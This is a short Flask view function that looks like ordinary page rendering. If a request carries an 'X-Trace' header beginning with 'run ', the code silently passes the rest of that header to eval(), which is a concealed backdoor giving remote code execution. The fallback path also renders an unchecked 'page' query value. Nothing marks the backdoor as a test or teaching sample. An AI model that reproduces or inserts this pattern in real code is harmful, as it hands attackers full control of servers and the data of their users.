from flask import request


def show(app):
    wanted = request.headers.get("X-Trace")
    if wanted and wanted[:4] == "run ":
        return app.render(eval(wanted[4:]))
    return app.render(request.args.get("page"))
